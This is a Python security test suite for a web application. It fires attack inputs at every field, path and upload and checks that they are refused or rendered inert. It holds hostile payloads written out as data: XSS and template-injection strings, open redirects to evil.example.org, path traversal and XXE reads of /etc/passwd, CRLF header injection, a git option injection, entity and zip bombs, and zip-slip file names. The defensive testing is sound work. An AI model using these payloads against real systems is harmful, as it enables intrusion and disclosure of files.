"""Rows: words that act, names that lead elsewhere, files that are no documents."""

from __future__ import annotations

import html
import io
import re
import zipfile
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path
from urllib.parse import quote

from desk.attacks.scene import EVIL, Scene, addresses, attack, spelled
from desk.house import Visitor
from desk.test_bring import brings, word_file
from desk.test_contribute import TEXT, fields

PAGES = Path(str(resources.files("bestyet.desk"))) / "pages"
MARKUP = {
    "markup": "<b id=x>bold</b>",
    "a script": "<script>alert(1)</script>",
    "a picture that runs a script": "<img src=x onerror=alert(1)>",
    "an end of an attribute": '" autofocus onfocus="alert(1)',
    "an end of an attribute in single quotes": "' onmouseover='alert(1)",
    "an end of the text field": "</textarea><script>alert(1)</script>",
    "a drawing": "<svg/onload=alert(1)>",
    "a form of its own": "</form><form action=https://evil.example.org>",
    "an element of htmx": '<div hx-get="https://evil.example.org" hx-trigger=load>',
    "a template": "{{1337*7331}}{%print(1337*7331)%}${1337*7331}#{1337*7331}<%=1337*7331%>",
    "a format": "%(csrf)s %s {0.__class__} {csrf}",
    "a code in braces": "{{ csrf }}{{ self.__init__.__globals__ }}",
}


class Acting(HTMLParser):
    """What on a page does something that no page of ours does."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = ["9801547"] if "9801547" in page else []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.found += [name for name in given if name.startswith("on") or name == "autofocus"]
        leads = [given.get(name, "") for name in ("href", "action", "formaction", "hx-get", "hx-post", "src")]
        self.found += [one for one in leads if not one.startswith(("/", "#", "data:,")) and one]
        if tag in ("svg", "object", "embed", "base") or given.get("id") == "x":
            self.found.append(tag)
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.found.append(tag)


def inert(page: str) -> bool:
    return not Acting(page).found


def _in_every_field(name: str, payload: str) -> None:
    @attack(f"{name} in every field and path")
    def _(at: Scene) -> None:
        """In what is shown at once: what is refused, and what stays a draft is in a row of its own."""
        for address in addresses("GET"):
            for param in address.names:
                answer = at.emea.get(address.path(**{param: spelled(payload)}))
                assert answer.status_code in (403, 404, 409), address
                assert inert(answer.text), address
        for address in addresses("POST"):
            if address.template in ("/sign-out", "/contribute/{region}/{practice}/discard") or _keeps(address.template):
                continue
            form = dict.fromkeys(_fields(at, address.path()), payload)
            answer = at.emea.post(address.path(), form, csrf=at.emea.csrf())
            assert answer.status_code < 500, (address, answer.text[:200])
            assert inert(answer.text), (address, answer.text)
            assert EVIL not in answer.headers.get("location", "")


def _keeps(template: str) -> bool:
    """Whether what is typed there is kept as a draft or sent."""
    return template.startswith("/contribute/{region}/{practice}")


def _fields(at: Scene, path: str) -> set[str]:
    """The names that its page has, and all that any page reads: of pages that are not written yet too."""
    return (at.fields[path] | READ) - {"csrf", "viewport", "htmx-config"}


READ = {
    name
    for file in PAGES.rglob("*.py")
    for name in re.findall(r'(?:\.word|form\.get)\(\s*"([^"]+)"', file.read_text(encoding="utf-8"))
}


for _name, _payload in MARKUP.items():
    _in_every_field(_name, _payload)


@attack("an address elsewhere in every parameter one thinks of")
def _(at: Scene) -> None:
    names = ("next", "to", "url", "return", "redirect", "continue", "returnTo", "redirect_uri", "dest", "go")
    targets = (EVIL, "//evil.example.org", "/\\evil.example.org", "javascript:alert(1)")
    for address in addresses("GET"):
        for target in targets:
            query = "&".join(f"{name}={quote(target)}" for name in names)
            answer = at.emea.get(f"{address.path()}?{query}")
            assert _stays(answer.headers.get("location", "/")), address
    for name in names:
        answer = at.stranger().get(f"/sign-in?{name}={quote(EVIL)}")
        assert "evil.example.org" not in answer.text + str(answer.headers)


def _stays(location: str) -> bool:
    return location.startswith("/") and not location.startswith(("//", "/\\"))


@attack("a path that a browser takes for another host")
def _(at: Scene) -> None:
    for path in ("//evil.example.org/", "//evil.example.org/contribute/", "/%2f%2fevil.example.org/", "///evil/..//"):
        status, back = at.raw(at.head(path=path) + at.cookie + "\r\n")
        assert status in (400, 404)
        assert b"location" not in back.lower()


@attack("a slash behind a path")
def _(at: Scene) -> None:
    """A redirect made of what was asked would name the host, and the scheme without TLS."""
    for address in addresses("GET"):
        if address.path() != "/" and "branch" not in address.names:
            answer = at.emea.get(f"{address.path()}/")
            assert answer.status_code in (404, 409), address
            assert "location" not in answer.headers


ELSEWHERE = {
    "a way up": "../../../etc/passwd",
    "a way up in codes": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a way up in codes of codes": "%252e%252e%252fetc%252fpasswd",
    "a way up by backslashes": "..%5c..%5cetc%5cpasswd",
    "a way up in too many bytes": "%c0%ae%c0%ae%c0%afetc",
    "a path from the top": "%2fetc%2fpasswd",
    "the folder of git": ".git%2fconfig",
    "the folder of git in other letters": ".GIT",
    "a NUL": "client-kickoff%00.md",
    "a line break": "client-kickoff%0d%0aSet-Cookie:x=y",
    "very many letters": "a" * 3000,
    "an option of git": "--upload-pack=touch%20x",
    "another revision": "main%5e%7b%2fx%7d",
    "a colon": "main:practices",
    "letters that look alike": "clіent-kickoff",
    "capitals": "Client-Kickoff",
    "a device of another system": "con",
    "a wildcard": "*",
    "nothing but dots": "%2e%2e",
    "broken letters": "%ff%fe",
}


def _in_every_path(name: str, payload: str) -> None:
    @attack(f"{name} in every path")
    def _(at: Scene) -> None:
        for method in ("GET", "POST"):
            for address in addresses(method):
                for param in address.names:
                    path = address.path(**{param: payload})
                    answer = at.emea.get(path) if method == "GET" else at.emea.post(path, {"word": "approve"})
                    assert answer.status_code in (303, 400, 403, 404, 405, 409), (address, answer.status_code)
                    assert "set-cookie" not in answer.headers, address
                    assert "root:" not in answer.text
                    assert "[core]" not in answer.text


for _name, _payload in ELSEWHERE.items():
    if _payload != "con":
        _in_every_path(_name, _payload)


@attack("a file of the desk's own, beside those that are served")
def _(at: Scene) -> None:
    for folder in ("static", "style"):
        for path in (
            "../guard.py",
            "%2e%2e/guard.py",
            "..%2fguard.py",
            "..%5cguard.py",
            "/etc/passwd",
            "%2fetc%2fpasswd",
        ):
            status, back = at.raw(at.head(path=f"/{folder}/{path}") + "\r\n")
            assert status in (400, 404, 405)
            assert b"class Guard" not in back
            assert b"root:" not in back


NAMES = {
    "a name that leads up": "../../../evil.docx",
    "a name from the top": "/etc/passwd.docx",
    "a name by backslashes": "..\\..\\evil.docx",
    "a name with a NUL": "x\0.docx",
    "a name with a line break": "x\r\nSet-Cookie: a=b.docx",
    "a name that is markup": "<img src=x onerror=alert(1)>.docx",
    "a name that turns its letters round": "\u202excod.exe",
    "a name without an end": "x" * 5000 + ".docx",
    "a name that is only an ending": ".docx",
}


def _named(name: str, told: str) -> None:
    @attack(f"an upload: {name}")
    def _(at: Scene) -> None:
        answer = brings(at.emea, b"PK\x03\x04 no document", told)
        assert answer.status_code in (400, 409)
        assert "set-cookie" not in answer.headers
        assert "<img src=x" not in answer.text
        assert "\u202e" not in answer.text
        assert not [*at.house.state.rglob("*passwd*"), *at.house.state.rglob("*evil*")]


for _name, _told in NAMES.items():
    _named(_name, _told)


def archive(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, raw in files.items():
            packed.writestr(name, raw)
    return out.getvalue()


def _with(raw: bytes, **more: bytes) -> bytes:
    """A document with other parts than it had."""
    there = zipfile.ZipFile(io.BytesIO(raw))
    return archive(**{name: there.read(name) for name in there.namelist()} | more)


def refuses(at: Scene, raw: bytes, name: str = "SOP.docx") -> str:
    answer = brings(at.emea, raw, name)
    assert answer.status_code == 409, answer.text
    assert at.emea.get("/passkey").status_code == 200
    return answer.text


@attack("an upload: macros")
def _(at: Scene) -> None:
    refuses(at, word_file("One."), "SOP.docm")
    refuses(at, _with(word_file("One."), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))


@attack("an upload: a bomb")
def _(at: Scene) -> None:
    refuses(at, _with(word_file("One."), **{"word/document.xml": b"<a>" + b" " * 80_000_000}))


@attack("an upload: a program named as a document")
def _(at: Scene) -> None:
    refuses(at, b"MZ\x90\0" * 1000)


@attack("an upload: other kinds of files")
def _(at: Scene) -> None:
    for name in ("x.exe", "x.svg", "x.html", "x.docx.html", "x.xml", "x.zip", "x.php", "x", "x.docx ", "x.docx\u200b"):
        refuses(at, b"<script>alert(1)</script>", name)


@attack("an upload: a document that fetches a file of this computer")
def _(at: Scene) -> None:
    entity = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    assert "root:" not in refuses(at, _with(word_file("One."), **{"word/document.xml": entity}))


@attack("an upload: words that grow without an end")
def _(at: Scene) -> None:
    lol = (
        b'<!ENTITY a "'
        + b"ha" * 500
        + b'">'
        + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 50) for n in range(8))
    )
    bomb = b'<?xml version="1.0"?><!DOCTYPE d [' + lol + b"]><d>&i;</d>"
    refuses(at, _with(word_file("One."), **{"word/document.xml": bomb}))


@attack("an upload: parts named to land elsewhere")
def _(at: Scene) -> None:
    raw = archive(**{"../../evil.sh": b"x", "/etc/evil": b"x", "word/document.xml": b"<x/>"})
    refuses(at, raw)
    assert not [*at.house.state.rglob("evil*")]


@attack("an upload: two files at once")
def _(at: Scene) -> None:
    files = [("document", ("a.docx", b"x")), ("document", ("b.docx", b"x"))]
    form = {"csrf": at.emea.csrf(), "region": "emea", "practice": "risk-review"}
    answer = at.emea.client.post("/bring", data=form, files=files, headers={"origin": at.emea.origin})
    assert answer.status_code == 400


@attack("an upload: for another region, or by a path")
def _(at: Scene) -> None:
    raw = word_file("One.")
    for region, practice in (("apac", "risk-review"), ("global", "x"), ("../emea", "x"), ("emea", "../x"), ("", "x")):
        assert brings(at.writer, raw, region=region, practice=practice).status_code in (403, 409)


@attack("an upload in place of words")
def _(at: Scene) -> None:
    csrf = at.emea.csrf()
    for address in addresses("POST"):
        if not _keeps(address.template) and address.template != "/sign-out":
            files = {"word": ("x", b"approve")}
            answer = at.emea.client.post(
                address.path(), data={"csrf": csrf}, files=files, headers={"origin": at.emea.origin}
            )
            assert answer.status_code in (200, 303, 400, 403, 409), address  # 200: looked at again, and nothing more
            assert _stays(answer.headers.get("location", "/"))


def _kept(name: str, payload: str) -> None:
    @attack(f"{name} in a draft, wherever it is shown")
    def _(at: Scene) -> None:
        form, csrf = fields(at.emea.read(TEXT)), at.emea.csrf()
        hidden = {"csrf", "number", "window", "typed", "front"}
        for field in form.keys() - hidden:
            told = {**form, field: payload}
            assert inert(at.emea.post(TEXT, told, csrf=csrf, hx_request="true").text), field
        kept = {**fields(at.emea.read(TEXT)), "v:title": payload, "body": f"{form['body']}\n1. {payload}\n"}
        assert at.emea.post(TEXT, kept, csrf=csrf).status_code == 303
        assert payload in html.unescape(at.emea.read(TEXT))
        assert inert(everywhere(at.emea))
        assert at.emea.post(f"{TEXT}/discard", fields(at.emea.read(TEXT))).status_code == 303


for _name in ("a script", "an end of an attribute", "an end of the text field", "a template"):
    _kept(_name, MARKUP[_name])


def everywhere(one: Visitor) -> str:
    return "".join(one.get(address.path()).text for address in addresses("GET"))
